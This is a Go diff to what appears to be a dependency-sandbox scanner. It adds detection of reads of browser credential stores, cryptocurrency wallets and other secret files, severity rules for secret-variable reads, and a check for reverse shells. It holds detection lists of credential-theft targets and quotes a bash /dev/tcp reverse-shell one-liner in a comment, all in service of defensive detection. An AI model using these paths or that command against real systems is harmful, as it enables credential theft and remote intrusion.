@@ -10,6 +10,7 @@ import (
 	"strings"
 
 	"github.com/depbox/depbox/baseline"
+	"github.com/depbox/depbox/internal/canary"
 	"github.com/depbox/depbox/profile"
 )
 
@@ -272,6 +273,15 @@ var baitSuffixes = []string{
 	"/etc/shadow", "/etc/gshadow", "/.env",
 }
 
+// Infostealers sweep browsers' credential stores (saved passwords, cookies
+// and the key that decrypts them) and cryptocurrency wallets: a store's
+// file name inside a browser's profile directory, or a wallet path.
+var (
+	browserDirs   = []string{"/google-chrome/", "/chromium/", "/BraveSoftware/", "/microsoft-edge/", "/opera/", "/vivaldi/", "/.mozilla/firefox/"}
+	browserStores = []string{"Login Data", "Login Data For Account", "Cookies", "Local State", "Web Data", "logins.json", "key4.db", "cookies.sqlite"}
+	walletPaths   = []string{"/.electrum/wallets/", "/.bitcoin/wallet.dat", "/.ethereum/keystore/", "/exodus.wallet/", "/.config/solana/id.json"}
+)
+
 // procSecretRE: another process's environment or memory (the profile
 // masks pids as PID and TID).
 var procSecretRE = regexp.MustCompile(`^/proc/([0-9]+|PID|self|thread-self)(/task/([0-9]+|TID|self))?/(environ|mem)$`)
@@ -285,25 +295,50 @@ func IsBaitPath(p string) bool {
 		}
 	}
 	base := path.Base(p)
+	if slices.Contains(browserStores, base) && slices.ContainsFunc(browserDirs, func(d string) bool { return strings.Contains(p, d) }) {
+		return true
+	}
+	if slices.ContainsFunc(walletPaths, func(w string) bool { return strings.Contains(p+"/", w) }) {
+		return true
+	}
 	return strings.Contains(p, "/.ssh/") || strings.HasPrefix(base, ".env.") || procSecretRE.MatchString(p)
+}
+
+// lookOnly reports a file access that learns whether a file is there (or
+// what a directory holds), not its content: a stat or a directory listing.
+func lookOnly(f profile.File) bool {
+	return f.Access == profile.AccessStat || f.Access == profile.AccessList
 }
 
 func (c *checker) checkBaitFiles(d *profile.Dependency, phase string, b *profile.Behavior) {
 	whole := b
 	parts(b, func(b *profile.Behavior, un bool) {
 		var vals []string
+		read := false
 		for _, f := range b.Files {
 			if f.Access == profile.AccessWrite || f.Access == profile.AccessExec || !IsBaitPath(f.Path) ||
 				c.accepted(d, phase, baseline.FileItem(f, un)) {
 				continue
 			}
 			v := f.Path
-			if f.Failed {
+			switch {
+			case lookOnly(f):
+				v += " (" + f.Access + " only)"
+			case f.Failed:
 				v += " (open failed)"
 			}
+			read = read || !lookOnly(f)
 			vals = append(vals, v)
 		}
 		if len(vals) == 0 {
+			return
+		}
+		if !read {
+			// It only asked whether the file is there (pg's pgpass checks
+			// ~/.pgpass before it connects): nothing of its content was had.
+			c.add(RuleBaitFileRead, Low, d, phase, fmt.Sprintf("%s looked for credential %s %s without reading %s in the %s phase", label(d),
+				plural(len(vals), "file", "files"), strings.Join(vals, ", "), plural(len(vals), "it", "them"), phase),
+				Evidence{Event: baseline.KindFileRead, Values: vals, Unattributed: un})
 			return
 		}
 		// With no network, DNS or process in the same package and phase,
@@ -385,6 +420,26 @@ func hostPort(e profile.Endpoint) string {
 	return h + ":" + strconv.Itoa(e.Port)
 }
 
+// secretEnvSeverity is DBX006's severity in a phase given the secret
+// variables read: medium in the execute phase when none of them is one
+// depbox plants a canary in (canary.EnvNames). There depbox itself calls the
+// package's exports, and a client library asked to act reads its own
+// optional settings (PGPASSWORD, ETHEREAL_API_KEY) and calls its service;
+// the sandbox never set them, so nothing was there to send. A planted
+// credential read, or any secret read at install, import or invoke, where
+// nobody asked, is the rule's high; a canary leaving is DBX001 anyway.
+func secretEnvSeverity(phase string, secrets []string) Severity {
+	if phase != profile.PhaseExecute {
+		return 0
+	}
+	for _, s := range secrets {
+		if slices.Contains(canary.EnvNames, s) {
+			return 0
+		}
+	}
+	return Medium
+}
+
 func (c *checker) checkSecretEnvNetwork(d *profile.Dependency) {
 	var secrets []string
 	newSecret := false
@@ -439,7 +494,7 @@ func (c *checker) checkSecretEnvNetwork(d *profile.Dependency) {
 			}
 			vals = append(vals, p)
 		}
-		c.add(RuleSecretEnvNetwork, 0, d, phase,
+		c.add(RuleSecretEnvNetwork, secretEnvSeverity(phase, secrets), d, phase,
 			fmt.Sprintf("%s read secret %s %s and connected to %s in the %s phase", label(d), plural(len(secrets), "variable", "variables"),
 				strings.Join(secrets, ", "), strings.Join(short, ", "), phase),
 			Evidence{Event: baseline.KindEnv + "+" + baseline.KindNetwork, Values: vals, Unattributed: unattributed})
@@ -510,12 +565,21 @@ func suspiciousProcess(p profile.Process) string {
 	return ""
 }
 
+// netRedirect reports whether a shell's script opens a connection itself
+// through bash's /dev/tcp or /dev/udp (`bash -i >& /dev/tcp/host/port 0>&1`):
+// a reverse shell or a beacon, never merely how a lifecycle script is run.
+// Its interactive shell would start only once the connection succeeds, so
+// the script's shell is all there is to judge.
+func netRedirect(p profile.Process) bool {
+	return len(p.Argv) == 3 && (strings.Contains(p.Argv[2], "/dev/tcp/") || strings.Contains(p.Argv[2], "/dev/udp/"))
+}
+
 func (c *checker) checkProcesses(d *profile.Dependency, phase string, b *profile.Behavior) {
 	parts(b, func(b *profile.Behavior, un bool) {
 		var vals, kinds []string
 		for _, p := range b.Processes {
 			why := suspiciousProcess(p)
-			if why == "" || (phase == profile.PhaseInstall && (scriptRunner(p) || ownScript(p))) || c.accepted(d, phase, baseline.ProcessItem(p, un)) {
+			if why == "" || (phase == profile.PhaseInstall && ((scriptRunner(p) && !netRedirect(p)) || ownScript(p))) || c.accepted(d, phase, baseline.ProcessItem(p, un)) {
 				continue
 			}
 			vals = append(vals, processValue(p))
